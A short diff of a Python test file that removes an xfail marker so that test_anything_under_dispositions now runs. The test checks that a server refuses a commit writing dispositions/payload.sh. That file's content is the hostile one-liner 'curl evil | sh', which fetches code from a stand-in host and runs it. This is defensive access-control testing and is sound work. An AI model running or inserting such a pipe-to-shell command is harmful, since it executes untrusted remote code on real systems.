@@ -193,7 +193,6 @@ def test_ci_workflow_by_the_clerk(server: Path, repo: Path, keys: Keys) -> None:
     refused(repo, server, "UNAUTHORIZED_CHANGE")
 
 
-@xfail("nothing new under dispositions/ is judged (judge.judged_paths)")
 def test_anything_under_dispositions(server: Path, repo: Path, keys: Keys) -> None:
     zhao_writes(repo, keys, "dispositions/payload.sh", b"curl evil | sh\n")
     refused(repo, server, "UNAUTHORIZED_CHANGE")
